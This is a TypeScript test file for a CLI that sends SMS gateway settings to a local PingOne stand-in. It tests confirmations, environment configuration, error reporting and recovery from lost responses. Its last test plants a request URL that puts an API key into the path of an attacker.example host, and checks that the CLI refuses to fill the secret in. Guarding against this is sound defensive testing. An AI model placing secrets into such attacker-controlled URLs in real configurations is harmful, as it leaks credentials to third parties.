/**
 * `send` in process (the dispatcher with an in-memory io) against the local PingOne over real
 * loopback HTTP: binding, modes, confirmations answered by flags, errors and exit statuses.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { PingOneClient } from '../../../server/src/pingone/api';
import type { FetchFunction } from '../../../server/src/pingone/http';
import type { PingOneLocal } from '../../pingone-local/server';
import {
  API_KEY,
  apiRequests,
  BODY,
  BODY_TEXT,
  defaultFiles,
  envFlags,
  fetch,
  GATEWAY_TOKEN,
  memoryIo,
  positionOf,
  run,
  secretEnv,
  withLocal,
} from './remote-helpers';

const SEND = (local: PingOneLocal, ...extra: string[]) => ['send', 'gw.json', ...envFlags(local), '--var-file', 'secrets.env', ...extra];

function filledBody(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const text = BODY_TEXT.replace('{{gatewayAuthToken}}', GATEWAY_TOKEN).replace('{{apiKey}}', API_KEY);
  return { ...JSON.parse(text), ...overrides };
}

function directClient(local: PingOneLocal): PingOneClient {
  return new PingOneClient({
    fetch,
    apiBase: local.apiBase,
    environmentId: local.environmentId,
    credentials: {
      authBase: local.authBase,
      tokenEnvironmentId: local.environmentId,
      clientId: local.clientId,
      clientSecret: local.clientSecret,
    },
    retryBaseDelayMs: 1,
  });
}

describe('cli send: create, confirm, update', () => {
  it('refuses a create without --yes (exit 2, nothing created), creates with --yes, then updates without a duplicate', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });

      const refused = await run(SEND(local), io);
      assert.equal(refused.code, 2, refused.err);
      assert.match(refused.err, /needs --yes/);
      assert.equal(refused.out, '');
      assert.equal(local.state.resources().length, 0);
      assert.equal(apiRequests(local, 'create'), 0);

      const created = await run(SEND(local, '--yes'), io);
      assert.equal(created.code, 0, created.err);
      const response = JSON.parse(created.out);
      assert.equal(local.state.resources().length, 1);
      assert.equal(response.id, local.state.resources()[0].id);
      assert.match(created.err, /^Created CUSTOM_PROVIDER "Gateway" \(/m);
      assert.match(created.err, /not in the SMS\/voice fallback chain/);
      // The echoed gateway key is redacted in what is printed; the secrets did reach PingOne.
      assert.equal(response.requests[0].headers['X-Api-Key'], '***REDACTED***');
      assert.ok(!created.out.includes(API_KEY) && !created.out.includes(GATEWAY_TOKEN));
      const stored = local.state.storedBody(local.environmentId, response.id) as {
        authentication: { authToken: string };
        requests: { headers: Record<string, string> }[];
      };
      assert.equal(stored.authentication.authToken, GATEWAY_TOKEN);
      assert.equal(stored.requests[0].headers['X-Api-Key'], API_KEY);

      io.files.set('gw.json', BODY_TEXT.replace('https://sms.example.com/send', 'https://sms.example.com/v2/send'));
      const updated = await run(SEND(local), io);
      assert.equal(updated.code, 0, updated.err);
      assert.match(updated.err, /^Updated CUSTOM_PROVIDER "Gateway"/m);
      assert.equal(local.state.resources().length, 1);
      assert.equal((local.state.resources()[0] as { requests: { url: string }[] }).requests[0].url, 'https://sms.example.com/v2/send');
    }));

  it('--create-only refuses a resource that already matches; --update-only refuses when nothing matches', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
      const updateOnly = await run(SEND(local, '--update-only'), io);
      assert.equal(updateOnly.code, 1, updateOnly.err);
      assert.match(updateOnly.err, /only updates were allowed/);
      assert.equal(local.state.resources().length, 0);

      const createOnly = await run(SEND(local, '--create-only', '--yes'), io);
      assert.equal(createOnly.code, 0, createOnly.err);
      assert.equal(local.state.resources().length, 1);

      const again = await run(SEND(local, '--create-only', '--yes'), io);
      assert.equal(again.code, 1, again.err);
      assert.match(again.err, /already exists/);
      assert.equal(local.state.resources().length, 1);

      const update = await run(SEND(local, '--update-only'), io);
      assert.equal(update.code, 0, update.err);
      assert.equal(local.state.resources().length, 1);

      const both = await run(SEND(local, '--update-only', '--create-only'), io);
      assert.equal(both.code, 2);
    }));

  it('several matching resources: refused with their ids; an "id" in the document picks one', () =>
    withLocal(async (local) => {
      const client = directClient(local);
      const ids: string[] = [];
      for (let i = 0; i < 2; i++) {
        const r = await client.create(filledBody());
        assert.equal(r.kind, 'ok');
        if (r.kind === 'ok') ids.push(r.value.id);
      }
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
      const ambiguous = await run(SEND(local, '--yes'), io);
      assert.equal(ambiguous.code, 1, ambiguous.err);
      for (const id of ids) assert.ok(ambiguous.err.includes(id), ambiguous.err);
      assert.match(ambiguous.err, /"id" in the document/);
      assert.equal(local.state.resources().length, 2);

      io.files.set('gw.json', JSON.stringify({ id: ids[1], ...BODY, name: 'Gateway' }, null, 2));
      const picked = await run(SEND(local), io);
      assert.equal(picked.code, 0, picked.err);
      assert.equal(JSON.parse(picked.out).id, ids[1]);
      assert.equal(local.state.resources().length, 2);
    }));

  it('a resource changed in PingOne meanwhile is not overwritten without --overwrite', () =>
    withLocal(async (local) => {
      const client = directClient(local);
      const created = await client.create(filledBody());
      assert.equal(created.kind, 'ok');
      // A colleague updates the resource between the list (binding) and the read (stale check).
      let colleagueUrl = '';
      const racing: FetchFunction = async (input, init) => {
        const url = String(input);
        if ((init?.method ?? 'GET') === 'GET' && /\/phoneDeliverySettings\/[^/]+$/.test(url) && colleagueUrl === '') {
          colleagueUrl = `https://colleague.example.com/${Date.now()}`;
          const changed = filledBody() as { requests: { url: string }[] };
          changed.requests[0].url = colleagueUrl;
          const r = await client.update(created.kind === 'ok' ? created.value.id : '', changed);
          assert.equal(r.kind, 'ok');
        }
        return fetch(input, init);
      };
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local), fetch: racing });
      const refused = await run(SEND(local), io);
      assert.equal(refused.code, 1, refused.err);
      assert.match(refused.err, /changed in PingOne/);
      assert.match(refused.err, /--overwrite/);
      assert.equal((local.state.resources()[0] as { requests: { url: string }[] }).requests[0].url, colleagueUrl);

      colleagueUrl = '';
      const forced = await run(SEND(local, '--overwrite'), io);
      assert.equal(forced.code, 0, forced.err);
      assert.equal((local.state.resources()[0] as { requests: { url: string }[] }).requests[0].url, 'https://sms.example.com/send');
    }));

  it('a changed provider needs --recreate', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
      assert.equal((await run(SEND(local, '--yes'), io)).code, 0);
      const id = String(local.state.resources()[0].id);
      io.files.set(
        'gw.json',
        JSON.stringify({ id, provider: 'CUSTOM_TWILIO', sid: 'AC0123456789abcdef0123456789abcdef', authToken: '{{gatewayAuthToken}}' }),
      );
      const refused = await run(SEND(local), io);
      assert.equal(refused.code, 1, refused.err);
      assert.match(refused.err, /cannot change "provider".*--recreate/s);
      assert.deepEqual(
        local.state.resources().map((r) => r.id),
        [id],
      );
    }));
});

describe('cli send: environments and configuration', () => {
  const settings = (local: PingOneLocal, extra = '') => `// Workspace settings
{
  /* the local stand-in */
  "pingone.activeEnvironment": "local",
  "pingone.environments": [
    {
      "name": "local",
      "apiUrl": "${local.origin}", // without /v1
      "authUrl": "${local.authBase}",
      "environmentId": "${local.environmentId}",
      "clientId": "${local.clientId}",
      "variables": { "apiKey": "not-the-key-but-plain" }
    },
    {
      "name": "prod",
      "apiUrl": "${local.apiBase}",
      "authUrl": "${local.authBase}",
      "environmentId": "${local.environmentId}",
      "clientId": "${local.clientId}",
      "production": true${extra}
    },
  ],
}
`;

  it('reads --config (comments, trailing commas, flat key), picks --env NAME or the active one, and uses its variables', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: { ...defaultFiles(), '.vscode/settings.json': settings(local) }, env: secretEnv(local) });
      const created = await run(
        ['send', 'gw.json', '--config', '.vscode/settings.json', '--env', 'local', '--yes', '--trust-config-urls'],
        io,
      );
      assert.equal(created.code, 0, created.err);
      assert.match(created.err, /in "local"/);
      // The plain variable of the entry filled {{apiKey}} (the var file was not given).
      const id = JSON.parse(created.out).id;
      assert.equal(
        (local.state.storedBody(local.environmentId, id) as { requests: { headers: Record<string, string> }[] }).requests[0].headers[
          'X-Api-Key'
        ],
        'not-the-key-but-plain',
      );
      const active = await run(['send', 'gw.json', '--config', '.vscode/settings.json', '--trust-config-urls'], io);
      assert.equal(active.code, 0, active.err);
      assert.match(active.err, /Updated .* in "local"/);
    }));

  it('the nested form works too; an unknown name is a configuration error listing the names', () =>
    withLocal(async (local) => {
      const nested = JSON.stringify({
        pingone: {
          environments: [
            { name: 'n', apiUrl: local.apiBase, authUrl: local.authBase, environmentId: local.environmentId, clientId: local.clientId },
          ],
        },
      });
      const io = memoryIo({ files: { ...defaultFiles(), 'cfg.json': nested }, env: secretEnv(local) });
      const ok = await run(['send', 'gw.json', '--config', 'cfg.json', '--var-file', 'secrets.env', '--yes', '--trust-config-urls'], io);
      assert.equal(ok.code, 0, ok.err);
      const unknown = await run(['send', 'gw.json', '--config', 'cfg.json', '--env', 'staging'], io);
      assert.equal(unknown.code, 2);
      assert.match(unknown.err, /no environment named "staging" .*it has: n/);
      const noEnv = await run(['send', 'gw.json', '--env', 'n'], io);
      assert.equal(noEnv.code, 2);
      assert.match(noEnv.err, /--env needs --config/);
    }));

  it('an environment marked production needs --production-ok', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: { ...defaultFiles(), 's.json': settings(local) }, env: secretEnv(local) });
      const refused = await run(
        ['send', 'gw.json', '--config', 's.json', '--env', 'prod', '--var-file', 'secrets.env', '--yes', '--trust-config-urls'],
        io,
      );
      assert.equal(refused.code, 2, refused.err);
      assert.match(refused.err, /marked production.*--production-ok/);
      assert.equal(local.state.resources().length, 0);
      const ok = await run(
        [
          'send',
          'gw.json',
          '--config',
          's.json',
          '--env',
          'prod',
          '--var-file',
          'secrets.env',
          '--yes',
          '--production-ok',
          '--trust-config-urls',
        ],
        io,
      );
      assert.equal(ok.code, 0, ok.err);
      assert.equal(local.state.resources().length, 1);
    }));

  it('--api-url with or without /v1, --region, and bad URLs', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
      const withoutV1 = [
        '--api-url',
        local.origin,
        '--auth-url',
        local.authBase,
        '--environment-id',
        local.environmentId,
        '--client-id',
        local.clientId,
      ];
      const ok = await run(['send', 'gw.json', ...withoutV1, '--var-file', 'secrets.env', '--yes'], io);
      assert.equal(ok.code, 0, ok.err);
      const plainHttp = await run(
        [
          'send',
          'gw.json',
          '--api-url',
          'http://api.example.com',
          '--auth-url',
          local.authBase,
          '--environment-id',
          local.environmentId,
          '--client-id',
          local.clientId,
        ],
        io,
      );
      assert.equal(plainHttp.code, 2);
      assert.match(plainHttp.err, /--api-url: API base URL must use https/);
      const noAuth = await run(
        ['send', 'gw.json', '--api-url', local.apiBase, '--environment-id', local.environmentId, '--client-id', local.clientId],
        io,
      );
      assert.equal(noAuth.code, 2);
      assert.match(noAuth.err, /set --region or --auth-url/);
      const badRegion = await run(
        ['send', 'gw.json', '--region', 'XX', '--environment-id', local.environmentId, '--client-id', local.clientId],
        io,
      );
      assert.equal(badRegion.code, 2);
      assert.match(badRegion.err, /--region must be one of NA, CA, EU, AP, AU, SG/);
      const mixed = await run(['send', 'gw.json', '--env', 'x', '--config', 'c.json', '--client-id', 'c'], io);
      assert.equal(mixed.code, 2);
      assert.match(mixed.err, /either --env\/--config or the environment flags \(--client-id\)/);
    }));

  it('without PINGONE_CLIENT_SECRET: exit 2 and no request at all; a flag for it is refused', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: { PINGONE_VAR_gatewayAuthToken: GATEWAY_TOKEN } });
      const r = await run(SEND(local, '--yes'), io);
      assert.equal(r.code, 2);
      assert.match(r.err, /PINGONE_CLIENT_SECRET/);
      assert.equal(local.state.requests.length, 0);
      const flag = await run([...SEND(local), '--client-secret', local.clientSecret], io);
      assert.equal(flag.code, 2);
      assert.match(flag.err, /read only from the environment variable PINGONE_CLIENT_SECRET/);
    }));

  it('a wrong client secret is a configuration error (exit 2) naming what to check', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local, { PINGONE_CLIENT_SECRET: 'wrong-secret-value-1' }) });
      const r = await run(SEND(local, '--yes'), io);
      assert.equal(r.code, 2, r.err);
      assert.match(r.err, /invalid_client/);
      assert.ok(!r.err.includes('wrong-secret-value-1'));
    }));

  it('missing placeholders are listed by name (exit 2), nothing sent', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: { PINGONE_CLIENT_SECRET: local.clientSecret } });
      const r = await run(['send', 'gw.json', ...envFlags(local), '--yes'], io);
      assert.equal(r.code, 2);
      assert.match(r.err, /no value for \{\{apiKey\}\}, \{\{gatewayAuthToken\}\}/);
      assert.match(r.err, /PINGONE_VAR_apiKey, PINGONE_VAR_gatewayAuthToken/);
      assert.equal(apiRequests(local), 0);
      // --var gives a plain value; the environment variable fills the other.
      const withVar = await run(
        ['send', 'gw.json', ...envFlags(local), '--var', 'apiKey=plain-key', '--yes'],
        memoryIo({ files: defaultFiles(), env: secretEnv(local) }),
      );
      assert.equal(withVar.code, 0, withVar.err);
    }));
});

describe('cli send: problems in the document and in PingOne', () => {
  it('a document with errors is refused with each error at file:line:col (exit 1); --force sends it', () =>
    withLocal(async (local) => {
      // "UK" is no ISO 3166-1 code (an error here); the stand-in only checks for two capitals.
      const numbers = [{ type: 'TOLL_FREE', number: '+18005550100', capabilities: ['SMS'], supportedCountries: ['UK'] }];
      const text = JSON.stringify({ ...BODY, numbers }, null, 2);
      const io = memoryIo({ files: defaultFiles({ 'gw.json': text }), env: secretEnv(local) });
      const refused = await run(SEND(local, '--yes'), io);
      assert.equal(refused.code, 1);
      const at = positionOf(text, '"UK"');
      assert.match(refused.err, new RegExp(`^gw\\.json:${at.line}:${at.col} error country-code-invalid `, 'm'));
      assert.match(refused.err, /--force/);
      assert.equal(apiRequests(local), 0);
      const forced = await run(SEND(local, '--yes', '--force'), io);
      assert.equal(forced.code, 0, forced.err);
      assert.match(forced.err, /despite 1 error/);
      assert.equal(local.state.resources().length, 1);
    }));

  it('a text that is not JSON is refused even with --force', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles({ 'gw.json': '[1, 2' }), env: secretEnv(local) });
      const r = await run(SEND(local, '--yes', '--force'), io);
      assert.equal(r.code, 1);
      assert.equal(apiRequests(local), 0);
    }));

  it('a field PingOne rejects: exit 1, its target and file:line:col printed, the envelope on stdout', () =>
    withLocal(
      async (local) => {
        const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
        const r = await run(SEND(local, '--yes'), io);
        assert.equal(r.code, 1, r.err);
        const at = positionOf(BODY_TEXT, '"https://sms.example.com/send"');
        assert.match(r.err, /PingOne refused the create in "environment [^"]+" \(400 INVALID_DATA\)/);
        assert.match(
          r.err,
          new RegExp(
            `^  gw\\.json:${at.line}:${at.col} requests\\[0\\]\\.url: INVALID_VALUE: The value of requests\\[0\\]\\.url is not valid`,
            'm',
          ),
        );
        assert.match(r.err, /correlation id: [0-9a-f-]{36}/);
        assert.equal(JSON.parse(r.out).code, 'INVALID_DATA');
        assert.equal(local.state.resources().length, 0);
      },
      { rejectFields: ['requests[0].url'] },
    ));

  it('a target the document lacks goes on line 1 and says so', () =>
    withLocal(
      async (local) => {
        const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
        const r = await run(SEND(local, '--yes'), io);
        assert.equal(r.code, 1);
        assert.match(r.err, /^  gw\.json:1:1 nowhere\.at\.all: .*\(target not found in the file\)$/m);
      },
      { rejectFields: [{ target: 'nowhere.at.all', always: true }] },
    ));

  it('a create whose answer is lost is resolved by the list: created (exit 0), and sending again updates', () =>
    withLocal(
      async (local) => {
        const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
        const r = await run(SEND(local, '--yes'), io);
        assert.equal(r.code, 0, r.err);
        assert.match(r.err, /did create the provider/);
        assert.equal(JSON.parse(r.out).id, local.state.resources()[0].id);
        const again = await run(SEND(local), io);
        assert.equal(again.code, 0, again.err);
        assert.match(again.err, /^Updated/m);
        assert.equal(local.state.resources().length, 1);
      },
      { faults: [{ type: 'reset-after', op: 'create' }] },
    ));

  it('a create lost before it was processed: the list shows nothing was created (exit 1)', () =>
    withLocal(
      async (local) => {
        const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
        const r = await run(SEND(local, '--yes'), io);
        assert.equal(r.code, 1, r.err);
        assert.match(r.err, /no provider was created; it is safe to send again/);
        assert.equal(local.state.resources().length, 0);
      },
      { faults: [{ type: 'reset-before', op: 'create' }] },
    ));

  it('a create whose answer is lost while the list fails too: exit 3', () =>
    withLocal(
      async (local) => {
        // The list before the POST works; from the POST on, every list answers 500.
        const breaking: FetchFunction = async (input, init) => {
          if (init?.method === 'POST' && /\/phoneDeliverySettings$/.test(String(input)))
            local.control({ faults: [{ type: 'server-error', op: 'list', count: 20 }] });
          return fetch(input, init);
        };
        const io = memoryIo({ files: defaultFiles(), env: secretEnv(local), fetch: breaking });
        const r = await run(SEND(local, '--yes'), io);
        assert.equal(r.code, 3, r.err);
        assert.match(r.err, /Look in PingOne before sending again/);
        assert.equal(r.out, '');
        assert.equal(local.state.resources().length, 1, 'it was created, and the CLI did not claim otherwise');
      },
      { faults: [{ type: 'reset-after', op: 'create' }] },
    ));

  it('--verbose logs each request on stderr (method, URL, status, duration, correlation id); quiet without it', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local) });
      const quiet = await run(SEND(local, '--yes'), io);
      assert.equal(quiet.code, 0);
      assert.ok(!/→/.test(quiet.err));
      const verbose = await run(SEND(local, '--verbose'), io);
      assert.equal(verbose.code, 0, verbose.err);
      assert.match(verbose.err, /^POST http:\/\/127\.0\.0\.1:\d+\/[^/]+\/as\/token → 200 \(\d+ ms\) \[[0-9a-f-]{36}\]$/m);
      assert.match(
        verbose.err,
        /^PUT http:\/\/127\.0\.0\.1:\d+\/v1\/environments\/[^ ]+\/phoneDeliverySettings\/[0-9a-f-]{36} → 200 \(\d+ ms\) \[[0-9a-f-]{36}\]$/m,
      );
    }));

  it("reads standard input for '-'", () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles(), env: secretEnv(local), stdin: BODY_TEXT });
      const r = await run(['send', '-', ...envFlags(local), '--var-file', 'secrets.env', '--yes'], io);
      assert.equal(r.code, 0, r.err);
      assert.equal(local.state.resources().length, 1);
    }));
});

describe('cli send: a secret goes only where its owner meant it to go', () => {
  const planted = JSON.stringify(
    { ...BODY, requests: [{ ...BODY.requests[0], url: 'https://attacker.example/{{apiKey}}/hook' }] },
    null,
    2,
  );
  it('refuses to fill a secret into a url’s path, --force or not; --allow-secret-in NAME=PATH allows that one field', () =>
    withLocal(async (local) => {
      const io = memoryIo({ files: defaultFiles({ 'gw.json': planted }), env: secretEnv(local) });
      for (const extra of [['--yes'], ['--yes', '--force']]) {
        const refused = await run(SEND(local, ...extra), io);
        assert.equal(refused.code, 1, refused.err);
        assert.match(refused.err, /\{\{apiKey\}\} is not filled into "requests\[0\]\.url"/);
        assert.ok(!refused.err.includes(API_KEY));
        assert.equal(apiRequests(local, 'create'), 0);
      }
      const allowed = await run(SEND(local, '--yes', '--allow-secret-in', 'apiKey=requests[0].url'), io);
      assert.equal(allowed.code, 0, allowed.err);
      assert.match(allowed.err, /\{\{apiKey\}\} \(requests\[0\]\.url\) is stored by PingOne \([^)]+\) and used at attacker\.example/);
      assert.match(allowed.err, /\{\{gatewayAuthToken\}\} \(authentication\.authToken\) is stored by PingOne .* used at attacker\.example/);
    }));
});
